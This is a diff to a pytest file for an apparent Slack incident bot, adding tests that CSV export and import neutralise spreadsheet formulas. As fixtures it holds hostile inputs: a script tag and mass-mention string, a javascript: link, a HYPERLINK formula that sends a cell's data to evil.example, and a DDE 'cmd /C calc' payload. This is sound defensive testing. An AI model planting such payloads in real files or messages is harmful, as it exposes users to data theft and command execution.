@@ -8,14 +8,18 @@ no HTML and no link but http(s) and mailto; bidirectional controls are never sto
 
 from __future__ import annotations
 
+import csv
 import inspect
+import io
+import json
 import re
 from collections.abc import Callable, Iterator
-from dataclasses import fields, is_dataclass
+from dataclasses import fields
 from datetime import date, datetime, timedelta, timezone
 from types import ModuleType, SimpleNamespace
 from typing import Any
 
+import aiohttp
 import pytest
 from slack_sdk.models.basic_objects import JsonObject
 
@@ -25,10 +29,14 @@ from bot.deploys import DeployMatch, DeployRecord, deploy_line
 from bot.phases import Phase, Stamp, StampValue, Timeline
 from bot.records import IncidentRecord, WarRoomContext
 from bot.stats import build_report, weekly_trend
-from bot.stats_view import TextStyle
+from bot.stats_view import TextStyle, report_csv
 from bot.text_input import escape, spreadsheet_cell, spreadsheet_text, storable
 from bot.tiers import TierTables
+from tests.clocks import FakeClock
+from tests.conftest import start_bot
 from tests.incident_facts import facts_from_minutes
+from tests.slack_requests import open_form_values
+from tests.test_import_export import cli_db, run  # noqa: F401  (cli_db is a fixture: `incident-bot db upgrade`)
 
 # What someone types when they mean harm (or only mean "@channel"), as the bot stores it.
 HOSTILE = "<!channel> <!here> <!everyone> <@U0HOSTILE> <http://evil.example|x> & <script>"
@@ -372,15 +380,11 @@ TYPED_ACTION = "<!channel> <!here> <!everyone> <http://evil.example|x> &amp; &lt
 
 @pytest.fixture
 def clock():
-    from tests.clocks import FakeClock
-
     return FakeClock(T0)
 
 
 @pytest.fixture
 async def hook_bot(settings, fake_slack, clock):
-    from tests.conftest import start_bot
-
     fake_slack.add_user(ESCALATION_CONTACT, "escalation-lead")
     update = {"alert_webhook_secret": SECRET, "deploy_webhook_secret": SECRET}
     running = await start_bot(settings.model_copy(update=update), fake_slack, clock=clock)
@@ -389,10 +393,6 @@ async def hook_bot(settings, fake_slack, clock):
 
 
 async def post_hook(bot, path: str, body: dict) -> tuple[int, str]:
-    import json
-
-    import aiohttp
-
     headers = {"Content-Type": "application/json", "Authorization": f"Bearer {SECRET}"}
     async with aiohttp.ClientSession() as session:
         async with session.post(f"http://127.0.0.1:{bot.port}{path}", data=json.dumps(body).encode(), headers=headers) as response:
@@ -402,8 +402,6 @@ async def post_hook(bot, path: str, body: dict) -> tuple[int, str]:
 def outbound_texts(fake, answers: list[str]) -> Iterator[tuple[str, str]]:
     """(where, text) for everything Slack would render: every Web API call's arguments, every
     response_url post, and the bot's direct answers to the requests."""
-    import json
-
     for call in fake.calls:
         args = dict(call.args)
         for key in ("blocks", "view", "attachments"):
@@ -432,8 +430,6 @@ async def test_hostile_text_through_every_surface_never_reaches_slack_live(hook_
     # Opened from the form: a plain-text input sends what was typed, unescaped.
     await command("open")
     view = next(iter(fake_slack.views.values()))
-    from tests.slack_requests import open_form_values
-
     response = await bot.slack.view_submission(
         view, open_form_values(title=HOSTILE, severity="P1", service="checkout-web", started=int(T0.timestamp()) - 60)
     )
@@ -502,3 +498,57 @@ async def test_hostile_text_through_every_surface_never_reaches_slack_live(hook_
     markdown = draft["content"].decode() if isinstance(draft["content"], bytes) else draft["content"]
     assert "&lt;script&gt;" in markdown and "<script" not in markdown.lower()
     assert "](javascript:" not in markdown and "[click]\\(javascript:alert(1))" in markdown
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV files: export, import, statistics
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "'=quoted by hand", "Plain title"]
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_every_csv_cell_that_a_spreadsheet_would_run_is_quoted():
+    facts = [facts_from_minutes(n + 1, T0 - timedelta(days=n), (2, 10, 5, 3), severity="P2", service=FORMULAS[n % len(FORMULAS)])
+             for n in range(12)]
+    report = build_report(facts, since=T0 - timedelta(days=30), until=T0, now=T0, tiers=TIERS)
+    cells = csv_cells(report_csv(report, "service"))
+    assert "'" + FORMULAS[0] in cells
+    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)]
+
+
+async def test_an_exported_csv_runs_no_formula_and_imports_back_as_stored(cli_db, tmp_path):
+    work, url = cli_db
+    source = io.StringIO()
+    writer = csv.writer(source, lineterminator="\n")
+    writer.writerow(["id", "title", "severity", "service", "detection_method", "started_at", "detected_at", "verified_at"])
+    for n, title in enumerate(FORMULAS):
+        writer.writerow(["=1+1" if n == 0 else f"X-{n}", title, "P2", "payments-api", "alert", "2026-03-02T09:12:00Z",
+                         "2026-03-02T09:15:30Z", "2026-03-02T10:20:00Z"])
+    (work / "in.csv").write_text(source.getvalue())
+    result = run(work, "import", "in.csv", "--format", "csv", database_url=url)
+    assert result.returncode == 0, result.stderr
+
+    exported = run(work, "export", "--format", "csv", database_url=url)
+    assert exported.returncode == 0, exported.stderr
+    cells = csv_cells(exported.stdout)
+    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)], "a cell a spreadsheet would run"
+    # A leading quote before a formula marks text, as in a spreadsheet: "'=quoted by hand" is stored as "=quoted by hand".
+    stored = [spreadsheet_text(title) for title in FORMULAS]
+    assert {spreadsheet_cell(title) for title in stored} | {"'=1+1"} <= set(cells)
+
+    # Into a fresh database, the export reads back as what was stored.
+    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
+    assert run(work, "db", "upgrade", database_url=fresh).returncode == 0
+    (work / "export.csv").write_text(exported.stdout)
+    again = run(work, "import", "export.csv", "--format", "csv", database_url=fresh)
+    assert again.returncode == 0, again.stderr
+    round_trip = run(work, "export", "--format", "csv", database_url=fresh)
+    rows = list(csv.DictReader(io.StringIO(round_trip.stdout)))
+    assert sorted(spreadsheet_text(row["title"]) for row in rows) == sorted(stored)
+    assert "=1+1" in [spreadsheet_text(row["id"]) for row in rows]  # the external id came back as itself
+    original = {(row["title"], row["started_at"], row["verified_at"]) for row in csv.DictReader(io.StringIO(exported.stdout))}
+    assert {(row["title"], row["started_at"], row["verified_at"]) for row in rows} == original
